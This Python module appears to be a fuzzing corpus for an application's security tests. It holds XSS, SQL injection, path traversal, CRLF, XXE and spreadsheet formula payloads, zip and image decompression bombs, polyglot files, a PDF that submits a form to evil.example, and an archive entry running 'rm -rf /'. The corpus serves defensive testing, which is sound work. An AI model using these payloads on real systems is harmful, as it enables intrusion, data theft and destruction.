"""One corpus of hostile input, shared by every hostile-input test (issue 9, part 3).

* :data:`STRINGS`: text an attacker types into any field — script and markup injection (each
  marked payload would set ``window.__pwned`` or call ``alert`` if it ever ran), template and
  format-string injection, SQL fragments, path traversal, header injection (CR/LF), Unicode
  bidi overrides, confusables and invisible characters, NUL and the other control characters,
  lone surrogates, very long text and deeply nested brackets.
* :data:`FILE_NAMES`: hostile names for an uploaded file (the same families).
* :func:`files`: hostile file contents — broken and truncated images, decompression bombs,
  polyglots, HTML and SVG dressed as pictures, ZIP bombs and other unsafe archives dressed as
  DOCX/XLSX, a PDF with JavaScript — with what the intake must answer (``accept`` or a 4xx).
* :func:`malformed_multipart`: request bodies that are not well-formed ``multipart/form-data``.
* :func:`deep_json`: JSON nested far past any parser's recursion limit.

Nothing here talks to the application; the tests in this package push the corpus through every
entry point and count what they sent (:data:`TRIED`, printed at the end of the run).
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

#: Set by a payload that ran; the browser test asserts it stays undefined.
PWNED = "window.__pwned"
#: Attribute carried by every injected element, so a page can be searched for one.
MARK = "data-pwned"


@dataclass(frozen=True)
class Hostile:
    """One hostile text: an id for the reports and the families it belongs to."""

    id: str
    value: str
    tags: frozenset[str]

    @property
    def utf8(self) -> bytes:
        """What a client that does not care about Unicode sends (lone surrogates kept)."""
        return self.value.encode("utf-8", "surrogatepass")

    @property
    def encodable(self) -> bool:
        try:
            self.value.encode("utf-8")
        except UnicodeEncodeError:
            return False
        return True


def _h(id_: str, value: str, *tags: str) -> Hostile:
    return Hostile(id_, value, frozenset(tags))


def _deep_brackets(depth: int) -> str:
    return "[" * depth + "]" * depth


STRINGS: tuple[Hostile, ...] = (
    # ------------------------------------------------------------ script and markup
    _h("script", f"<script>{PWNED}=1</script>", "markup", "script"),
    _h("script-alert", "<script>alert(1)</script>", "markup", "script"),
    _h("script-close-attr", f'"><script>{PWNED}=2</script>', "markup", "script"),
    _h("script-close-single", f"'><script>{PWNED}=3</script>", "markup", "script"),
    _h("img-onerror", f'<img src=x {MARK}=1 onerror="{PWNED}=4">', "markup", "script"),
    _h("svg-onload", f"<svg {MARK}=1 onload=alert(5)>", "markup", "script"),
    _h("body-onload", f"<body {MARK}=1 onload={PWNED}=6>", "markup", "script"),
    _h("details-ontoggle", f"<details open {MARK}=1 ontoggle={PWNED}=7>", "markup", "script"),
    _h("input-autofocus", f"<input autofocus {MARK}=1 onfocus={PWNED}=8>", "markup", "script"),
    _h("iframe-srcdoc", f'<iframe {MARK}=1 srcdoc="<script>parent.{PWNED}=9</script>">', "markup"),
    _h("a-javascript", f'<a {MARK}=1 href="javascript:{PWNED}=10">klik</a>', "markup", "script"),
    _h("javascript-url", "javascript:alert(11)//", "script"),
    _h("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=", "script"),
    _h("textarea-break", f"</textarea><script>{PWNED}=13</script>", "markup", "script"),
    _h("title-break", f"</title><script>{PWNED}=14</script>", "markup", "script"),
    _h("style-break", f"</style><script>{PWNED}=15</script>", "markup", "script"),
    _h("comment-break", f"--><script>{PWNED}=16</script><!--", "markup", "script"),
    _h("cdata-break", f"]]><script>{PWNED}=17</script>", "markup", "xml", "script"),
    _h("attr-break", f'" {MARK}=1 autofocus onfocus="{PWNED}=18" x="', "markup", "script"),
    _h("attr-break-single", f"' {MARK}=1 onmouseover='{PWNED}=19' x='", "markup", "script"),
    _h("unquoted-attr", f"x {MARK}=1 onclick={PWNED}=20", "markup", "script"),
    _h("style-tag", f"<style {MARK}=1>body{{display:none}}</style>", "markup"),
    _h("base-href", f'<base {MARK}=1 href="https://evil.example/">', "markup"),
    _h(
        "meta-refresh",
        f'<meta {MARK}=1 http-equiv="refresh" content="0;url=//evil.example">',
        "markup",
    ),
    _h(
        "form-action",
        f'<form {MARK}=1 action="https://evil.example"><button>OK</button></form>',
        "markup",
    ),
    _h(
        "math-xlink",
        f'<math {MARK}=1><mi xlink:href="javascript:{PWNED}=21">x</mi></math>',
        "markup",
    ),
    _h("object-data", f'<object {MARK}=1 data="javascript:{PWNED}=22"></object>', "markup"),
    _h("encoded-script", "&lt;script&gt;alert(23)&lt;/script&gt;", "markup"),
    _h("numeric-entities", "&#60;script&#62;alert(24)&#60;/script&#62;", "markup"),
    _h("fullwidth-script", "＜script＞alert(25)＜/script＞", "markup", "confusable"),
    _h("json-in-script", f'"}};{PWNED}=26;//', "script"),
    _h("template-jinja", "{{ config }}{{ 7*7 }}{% debug %}", "template"),
    _h("template-ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "template"),
    _h("template-dollar", "${7*7}#{7*7}<%= 7*7 %>", "template"),
    _h("format-percent", "%(name)s %s %d %n %x %%", "format"),
    _h("format-braces", "{0} {name} {{}} {.__class__}", "format"),
    _h(
        "markdown-link",
        f"[click](javascript:{PWNED}=27) ![x](https://evil.example/t.png)",
        "markup",
    ),
    _h("css-expression", "expression(alert(28)) url(javascript:alert(28))", "markup"),
    _h(
        "svg-use",
        f'<svg {MARK}=1><use href="data:image/svg+xml,<svg id=x onload=alert(29)>#x"/></svg>',
        "markup",
    ),
    # ------------------------------------------------------------ SQL
    _h("sql-or", "' OR '1'='1", "sql"),
    _h("sql-drop", "'; DROP TABLE tips; --", "sql"),
    _h("sql-double", '" OR 1=1 --', "sql"),
    _h("sql-union", "1 UNION SELECT username, password_verifier FROM users--", "sql"),
    _h("sql-sleep", "1; SELECT pg_sleep(10);--", "sql"),
    _h("sql-like", "%_%\\%", "sql"),
    _h("sql-backslash", "\\'; --", "sql"),
    _h("sql-comment", "admin'/*", "sql"),
    _h("sql-stacked", "'); DELETE FROM audit_records; --", "sql"),
    _h("sql-dollar", "$$; DROP TABLE tips; $$", "sql"),
    # ------------------------------------------------------------ path traversal
    _h("path-unix", "../../../../etc/passwd", "path"),
    _h("path-windows", "..\\..\\..\\windows\\win.ini", "path"),
    _h("path-absolute", "/etc/shadow", "path"),
    _h("path-doubled", "....//....//etc/passwd", "path"),
    _h("path-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path"),
    _h("path-overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "path"),
    _h("path-file-url", "file:///etc/passwd", "path"),
    _h("path-unc", "\\\\evil.example\\share\\x", "path"),
    # ------------------------------------------------------------ header and log injection
    _h("crlf-cookie", "a\r\nSet-Cookie: pwned=1", "header"),
    _h(
        "crlf-location",
        "x\r\nLocation: https://evil.example/\r\n\r\n<script>alert(30)</script>",
        "header",
    ),
    _h("lf-header", "x\nX-Injected: 1", "header"),
    _h("cr-only", "x\rX-Injected: 1", "header"),
    _h("crlf-encoded", "%0d%0aSet-Cookie:%20pwned=1", "header"),
    _h("crlf-local-path", "/status\r\nSet-Cookie: pwned=1", "header", "path"),
    _h("control-local-path", "/status\x00\t\x1b[2J", "header", "path", "control"),
    _h("protocol-relative", "//evil.example/%2f..", "header", "path"),
    _h("backslash-host", "/\\evil.example", "header", "path"),
    _h("log-forgery", "ok\n2026-01-01 00:00:00 ERROR qingling admin logged in", "header", "log"),
    _h("unicode-newlines", "a\u2028b\u2029c\x85d", "header", "unicode"),
    # ------------------------------------------------------------ Unicode
    _h("bidi-rlo", "invoice\u202egpj.exe", "bidi"),
    _h("bidi-isolates", "\u2066\u2067\u2068abc\u2069\u202a\u202b\u202c\u202d", "bidi"),
    _h("bidi-rlm", "\u200f\u200e\u061c", "bidi"),
    _h("bidi-trojan", 'access_level = "user\u202e \u2066// Check if admin\u2069 \u2066"', "bidi"),
    _h("zero-width", "消\u200b防\u200c通\u200d道\ufeff", "unicode"),
    _h("confusable-cyrillic", "раураl.com аdmin", "confusable"),
    _h("confusable-greek", "ΑΒΕΗΙΚΜΝΟΡΤΧΥΖ", "confusable"),
    _h("confusable-token", "7KQ2-M9XD-4R8T-ZP3W", "confusable"),
    _h("confusable-fullwidth-token", "７ＫＱ２－Ｍ９ＸＤ－４Ｒ８Ｔ－ＺＰ３Ｗ", "confusable"),
    _h("combining-stack", "Z" + "\u0336\u0334\u0335\u0337\u0338" * 60, "unicode"),
    _h("emoji-zwj", "👨‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🚒" * 20, "unicode"),
    _h("astral", "𠀀𠀁𪚥\U0001f4a9\U000e0041\U000e007f", "unicode"),
    _h(
        "tag-chars", "".join(chr(0xE0000 + ord(c)) for c in "<script>alert(31)</script>"), "unicode"
    ),
    _h("nfkc-expansion", "\ufdfa" * 200, "unicode", "long"),
    _h("noncharacters", "a\ufffeb\uffffc", "unicode"),
    _h("replacement-char", "a\ufffdb", "unicode"),
    _h("lone-surrogate", "消防\ud800通道堵塞了很多天", "unicode", "unreadable"),
    _h("lone-low-surrogate", "\udfff消防通道堵塞了很多天", "unicode", "unreadable"),
    _h("ideographic-space", "\u3000\u3000\u3000", "whitespace"),
    _h("hangul-filler", "\u3164\u115f\u1160", "unicode", "whitespace"),
    _h("variation-selectors", "a" + "\ufe0f" * 50 + "\U000e0100" * 20, "unicode"),
    # ------------------------------------------------------------ control characters
    _h("nul", "消防通道\x00堵塞了很多天", "control"),
    _h("nul-only", "\x00", "control"),
    _h("c0-controls", "".join(chr(c) for c in range(1, 32)), "control"),
    _h("del", "abc\x7fdef", "control"),
    _h("c1-controls", "".join(chr(c) for c in range(0x80, 0xA0)), "control"),
    _h("ansi-escape", "\x1b[31mred\x1b[0m\x1b]0;title\x07", "control"),
    _h("backspaces", "secret\x08\x08\x08\x08\x08\x08public", "control"),
    _h("bell-vt-ff", "a\x07b\x0bc\x0cd", "control"),
    # ------------------------------------------------------------ shape and size
    _h("empty", "", "whitespace"),
    _h("spaces", "   ", "whitespace"),
    _h("tabs-newlines", "\t\n\r\n\t", "whitespace"),
    _h("one-char", "x", "short"),
    _h("long-line", "隐" * 1_001, "long"),
    _h("long-10001", "患" * 10_001, "long"),
    _h("long-word", "A" * 100_000, "long"),
    _h("long-lines", "行\n" * 5_000, "long"),
    _h("deep-brackets", _deep_brackets(5_000), "deep"),
    _h("deep-html", "<div>" * 2_000 + "x" + "</div>" * 2_000, "deep", "markup"),
    _h("json-text", '{"__proto__": {"admin": true}, "constructor": {"prototype": {}}}', "json"),
    _h("json-break", '"}]}\\u0000', "json"),
    # ------------------------------------------------------------ numbers and identifiers
    _h("number-huge", "9" * 400, "number"),
    _h("number-giant", "9" * 5_000, "number", "long"),
    _h("number-negative", "-1", "number", "formula"),
    _h("number-float", "1e309", "number"),
    _h("number-nan", "NaN", "number"),
    _h("number-hex", "0x7fffffff", "number"),
    _h("number-superscript", "²", "number", "unicode"),
    _h("number-other-digits", "١٢", "number", "unicode"),
    _h("uuid-nil", "00000000-0000-0000-0000-000000000000", "number"),
    # ------------------------------------------------------------ spreadsheet and XML
    _h("formula-cmd", "=cmd|' /C calc'!A0", "formula"),
    _h("formula-hyperlink", '=HYPERLINK("https://evil.example?"&A1,"click")', "formula"),
    _h("formula-plus", "+1+1", "formula"),
    _h("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "formula"),
    _h("formula-tab", "\t=1+1", "formula"),
    _h("formula-quoted", "'=1+1", "formula"),
    _h(
        "xml-xxe",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "xml",
    ),
    _h(
        "xml-laughs",
        '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>',
        "xml",
    ),
    _h("xml-entities", "&amp;&lt;&gt;&quot;&apos;&#0;&#x0;", "xml"),
    _h("mail-header", "a@b.example\nBcc: victim@c.example", "header"),
)

#: Hostile names of uploaded files.
FILE_NAMES: tuple[Hostile, ...] = (
    _h("name-script", f"<script>{PWNED}=40</script>.png", "markup", "script"),
    _h("name-img", f'"><img src=x {MARK}=1 onerror={PWNED}=41>.png', "markup", "script"),
    _h("name-traversal", "../../../../etc/passwd.png", "path"),
    _h("name-windows", "..\\..\\..\\boot.ini.png", "path"),
    _h("name-absolute", "/etc/cron.d/x.png", "path"),
    _h("name-rlo", "photo\u202egnp.exe.png", "bidi"),
    _h("name-crlf", "a\r\nContent-Type: text/html\r\n\r\n<script>alert(42)</script>.png", "header"),
    _h("name-quote", "a\"; filename*=UTF-8''evil.html; x=\".png", "header"),
    _h("name-nul", "photo.php\x00.png", "control"),
    _h("name-long", "长" * 5_000 + ".png", "long"),
    _h("name-sql", "'; DROP TABLE attachments; --.png", "sql"),
    _h("name-dot", ".", "path"),
    _h("name-dotdot", "..", "path"),
    _h("name-spaces", "   .png", "whitespace"),
    _h("name-device", "CON.png", "path"),
    _h("name-unicode", "照片\u200b\ufeff\u2066.png", "unicode"),
)

# ---------------------------------------------------------------- files


@dataclass(frozen=True)
class HostileFile:
    """A hostile upload: ``expect`` is ``"accept"`` or the set of acceptable 4xx statuses."""

    id: str
    name: str
    data: bytes
    expect: str | frozenset[int]

    @property
    def accepted(self) -> bool:
        return self.expect == "accept"


def _png(size: tuple[int, int] = (16, 12)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(out, "PNG")
    return out.getvalue()


def _jpeg(size: tuple[int, int] = (16, 12)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (40, 120, 40)).save(out, "JPEG", quality=80)
    return out.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def png_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A PNG header claiming ``width`` × ``height`` pixels (no pixels follow)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IEND", b"")


def png_real_bomb() -> bytes:
    """A grey PNG that inflates to 7200 × 7200 pixels (over the 50 megapixel limit) from
    about 50 KiB."""
    width = height = 7_200
    pixels = zlib.compress(bytes((width + 1) * height), 9)  # filter byte 0, black pixels
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def png_text_script() -> bytes:
    """A valid PNG whose tEXt chunk carries a script (scrubbed away)."""
    data = _png()
    text = _png_chunk(b"tEXt", b"Comment\x00<script>alert(43)</script>")
    return data[:33] + text + data[33:]


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


_CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELS = b'<?xml version="1.0"?><Relationships/>'


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    entries = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": _RELS,
        "word/document.xml": b'<?xml version="1.0"?><w:document/>',
    }
    entries.update(extra or {})
    return _zip(entries)


def xlsx_archive(extra: dict[str, bytes] | None = None) -> bytes:
    entries = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
    }
    entries.update(extra or {})
    return _zip(entries)


def zip_bomb_docx(megabytes: int = 1_100) -> bytes:
    """A DOCX whose one extra member really inflates to ``megabytes`` MiB of zeros (over the
    1 GiB the intake allows). Built without compressing a gigabyte: a 1 MiB block of zeros
    deflated with a full flush is byte-aligned and independent of what came before, so the
    member's data is that block repeated."""
    block = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = piece * megabytes + compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    size = megabytes << 20
    name = b"word/media/zeros.bin"
    base = docx()
    cd_start = base.find(b"PK\x01\x02")
    eocd = base.rfind(b"PK\x05\x06")
    (entries,) = struct.unpack_from("<H", base, eocd + 10)
    offset = cd_start
    local = (
        struct.pack(
            "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(stream), size, len(name), 0
        )
        + name
    )
    central = (
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(stream),
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )
    directory = base[cd_start:eocd] + central
    end = struct.pack(
        "<4s4H2IH",
        b"PK\x05\x06",
        0,
        0,
        entries + 1,
        entries + 1,
        len(directory),
        offset + len(local) + len(stream),
        0,
    )
    return base[:cd_start] + local + stream + directory + end


def lying_sizes(data: bytes, declared: int) -> bytes:
    """``data`` (a ZIP) with every central-directory entry claiming ``declared`` bytes
    uncompressed: a bomb as the directory reads, whatever the members hold."""
    out = bytearray(data)
    position = 0
    while (position := out.find(b"PK\x01\x02", position)) >= 0:
        struct.pack_into("<I", out, position + 24, declared)
        position += 4
    return bytes(out)


def overlapping_docx() -> bytes:
    """A DOCX whose central directory points two names at the same member (the trick
    behind non-recursive zip bombs)."""
    data = bytearray(docx({"word/a.xml": b"<a/>" * 100}))
    first = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", first + 4)
    offset = struct.unpack_from("<I", data, first + 42)[0]
    struct.pack_into("<I", data, second + 42, offset)
    return bytes(data)


def many_entries_docx(count: int = 10_050) -> bytes:
    return docx({f"word/p{i}.xml": b"" for i in range(count)})


def traversal_docx() -> bytes:
    return docx({"../../../../tmp/evil.sh": b"#!/bin/sh\nrm -rf /\n", "/etc/passwd": b"x"})


def nested_zip_docx() -> bytes:
    inner = _zip({f"{i}.bin": bytes(1 << 20) for i in range(16)})
    return docx({"word/embeddings/inner.zip": inner})


def stored_bzip2_docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "word/document.xml": b"<w:document/>",
        },
        method=zipfile.ZIP_BZIP2,
    )


def encrypted_flag_docx() -> bytes:
    data = bytearray(docx())
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        flags = struct.unpack_from("<H", data, position + 8)[0]
        struct.pack_into("<H", data, position + 8, flags | 0x1)
        position += 4
    return bytes(data)


PDF_JAVASCRIPT = (
    b"%PDF-1.7\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R/Names<</JavaScript 4 0 R>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('pwned'); this.submitForm('https://evil.example/'))>>"
    b"endobj\n"
    b"4 0 obj<</Names[(x)3 0 R]>>endobj\n"
    b"5 0 obj<</Type/EmbeddedFile/Subtype/text#2Fhtml>>stream\n<script>alert(44)</script>\n"
    b"endstream endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)

#: A PDF that is also an HTML page (a browser sniffing it would run the script).
PDF_HTML_POLYGLOT = (
    b"%PDF-1.4\n%<html><body><script>window.__pwned=45</script></body></html>\n"
    b"1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(46)">'
    b"<script>window.__pwned=46</script></svg>"
)

HTML_PAGE = b"<!doctype html><html><body><script>window.__pwned=47</script></body></html>"


def _gifar() -> bytes:
    """A GIF with a ZIP appended (the classic GIFAR polyglot): GIF is not accepted."""
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue() + _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})


def _jpeg_with_html_comment() -> bytes:
    """A JPEG whose COM segment holds an HTML page (a JPEG/HTML polyglot): scrubbed."""
    data = _jpeg()
    payload = b"<html><script>window.__pwned=48</script></html>"
    segment = b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def _png_with_zip() -> bytes:
    """A PNG with a ZIP (a DOCX) appended: the PNG is scrubbed, the ZIP dropped."""
    return _png() + docx()


def _truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: max(8, int(len(data) * keep))]


def _corrupted(data: bytes) -> bytes:
    middle = len(data) // 2
    return data[:middle] + bytes(b ^ 0xFF for b in data[middle : middle + 64]) + data[middle + 64 :]


_REFUSED = frozenset({400, 413, 415, 422})


@functools.cache
def files() -> tuple[HostileFile, ...]:
    """Built on first use (the bombs take a moment), then kept."""
    png, jpeg = _png(), _jpeg()
    refused = _REFUSED
    return (
        HostileFile("png-ok", "photo.png", png, "accept"),
        HostileFile("png-text-script", "photo.png", png_text_script(), "accept"),
        HostileFile("png-plus-zip", "photo.png", _png_with_zip(), "accept"),
        HostileFile("jpeg-html-comment", "photo.jpg", _jpeg_with_html_comment(), "accept"),
        HostileFile("pdf-javascript", "report.pdf", PDF_JAVASCRIPT, "accept"),
        HostileFile("pdf-html-polyglot", "report.pdf", PDF_HTML_POLYGLOT, "accept"),
        HostileFile("png-truncated", "photo.png", _truncated(png), refused),
        HostileFile("png-corrupted", "photo.png", _corrupted(png), refused),
        HostileFile("jpeg-truncated", "photo.jpg", _truncated(jpeg, 0.4), refused),
        HostileFile("jpeg-soi-only", "photo.jpg", b"\xff\xd8\xff\xe0", refused),
        HostileFile("jpeg-garbage", "photo.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 8, refused),
        HostileFile("png-magic-only", "photo.png", b"\x89PNG\r\n\x1a\n", refused),
        HostileFile("png-bomb-header", "bomb.png", png_bomb(), refused),
        HostileFile("png-bomb-zero", "zero.png", png_bomb(0, 0), refused),
        HostileFile("png-bomb-real", "bomb.png", png_real_bomb(), refused),
        HostileFile(
            "webp-broken", "photo.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + bytes(8), refused
        ),
        HostileFile(
            "heic-broken",
            "photo.heic",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
            refused,
        ),
        HostileFile("svg-script", "photo.svg", SVG_SCRIPT, refused),
        HostileFile("html-as-jpg", "photo.jpg", HTML_PAGE, refused),
        HostileFile("gifar", "photo.gif", _gifar(), refused),
        HostileFile("exe-as-pdf", "report.pdf", b"MZ\x90\x00" + bytes(500), refused),
        HostileFile("docx-zip-bomb", "report.docx", zip_bomb_docx(), refused),
        HostileFile("docx-lying-sizes", "report.docx", lying_sizes(docx(), 0x7FFFFFFF), refused),
        HostileFile("docx-overlapping", "report.docx", overlapping_docx(), refused),
        HostileFile("docx-many-entries", "report.docx", many_entries_docx(), refused),
        HostileFile("docx-encrypted", "report.docx", encrypted_flag_docx(), refused),
        HostileFile("docx-bzip2", "report.docx", stored_bzip2_docx(), refused),
        HostileFile(
            "docx-macro", "report.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"}), refused
        ),
        HostileFile("docx-truncated", "report.docx", _truncated(docx(), 0.7), refused),
        HostileFile("docx-traversal", "report.docx", traversal_docx(), "accept"),
        HostileFile("docx-nested-zip", "report.docx", nested_zip_docx(), "accept"),
        HostileFile(
            "xlsx-zip-bomb", "sheet.xlsx", lying_sizes(xlsx_archive(), 0x7FFFFFFF), refused
        ),
        HostileFile("xlsx-ok-archive", "sheet.xlsx", xlsx_archive(), "accept"),
        HostileFile("empty", "empty.png", b"", refused),
        HostileFile("one-byte", "x.jpg", b"\xff", refused),
    )


# ---------------------------------------------------------------- requests


def deep_json(depth: int = 100_000, key: str = "description") -> bytes:
    """``{"<key>": [[[…]]]}`` nested ``depth`` deep: past any recursive parser's limit."""
    return ('{"' + key + '": ' + "[" * depth + "]" * depth + "}").encode()


def multipart(
    fields: list[tuple[str, bytes]],
    files: list[tuple[str, bytes, bytes]] = (),  # type: ignore[assignment]
    *,
    boundary: bytes = b"qingling-hostile",
) -> bytes:
    """A ``multipart/form-data`` body written byte by byte (so names and values may hold what
    a well-behaved encoder would refuse): fields (name, value), files (name, file name,
    content)."""
    parts = [
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="' + name.encode() + b'"'
        b"\r\n\r\n" + value + b"\r\n"
        for name, value in fields
    ]
    parts += [
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="' + name.encode() + b'"; '
        b'filename="'
        + filename
        + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
        + content
        + b"\r\n"
        for name, filename, content in files
    ]
    return b"".join(parts) + b"--" + boundary + b"--\r\n"


def malformed_multipart(fields: list[tuple[str, bytes]]) -> Iterator[tuple[str, str, bytes]]:
    """(id, Content-Type, body) of requests that are not well-formed multipart, each around
    the ``fields`` of a real form (its CSRF token among them)."""
    good = multipart(fields)
    ctype = "multipart/form-data; boundary=qingling-hostile"
    yield "no-boundary", "multipart/form-data", good
    yield "wrong-boundary", "multipart/form-data; boundary=other", good
    yield "empty-boundary", 'multipart/form-data; boundary=""', good
    yield "long-boundary", "multipart/form-data; boundary=" + "b" * 5_000, good
    yield "unterminated", ctype, good[: -len(b"--qingling-hostile--\r\n")]
    yield "truncated-mid-part", ctype, good[: len(good) // 2]
    yield "no-final-crlf", ctype, good.rstrip(b"\r\n")
    yield "lf-only", ctype, good.replace(b"\r\n", b"\n")
    yield "no-disposition", ctype, good.replace(b"Content-Disposition: form-data; ", b"")
    yield "no-name", ctype, good.replace(b'name="', b'nom="')
    yield "garbage", ctype, bytes(range(256)) * 64
    yield "empty-body", ctype, b""
    yield "only-boundary", ctype, b"--qingling-hostile--\r\n"
    yield (
        "header-injection",
        ctype,
        good.replace(
            b"Content-Disposition: form-data;",
            b"Content-Disposition: form-data\r\nX-Evil: 1\r\nContent-Disposition: form-data;",
            1,
        ),
    )
    yield (
        "huge-header",
        ctype,
        good.replace(
            b"Content-Disposition:", b"X-Pad: " + b"p" * 20_000 + b"\r\nContent-Disposition:", 1
        ),
    )
    yield (
        "too-many-parts",
        ctype,
        multipart([*fields, *((f"f{i}", b"x") for i in range(2_000))]),
    )
    yield (
        "field-over-memory-limit",
        ctype,
        multipart([*fields, ("description", "隐".encode() * 400_000)]),
    )
    yield (
        "filename-star",
        ctype,
        multipart(
            fields,
            [("files", b"x.png\"; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd", _png())],
        ),
    )
    yield (
        "nested-multipart",
        ctype,
        good.replace(
            b"Content-Disposition: form-data;",
            b"Content-Type: multipart/mixed; boundary=inner\r\nContent-Disposition: form-data;",
            1,
        ),
    )
    yield "charset-bogus", ctype + "; charset=utf-7", good
    yield "urlencoded-as-multipart", ctype, b"description=%00%ff&csrf_token=x"


#: What the tests sent, by entry point; printed at the end of the run (tests/hostile/conftest.py).
TRIED: Counter[str] = Counter()


def tried(entry: str, count: int = 1) -> None:
    TRIED[entry] += count


def corpus_size() -> dict[str, int]:
    return {
        "strings": len(STRINGS),
        "file names": len(FILE_NAMES),
        "files": len(files()),
        "malformed multipart": sum(1 for _ in malformed_multipart([("x", b"y")])),
    }
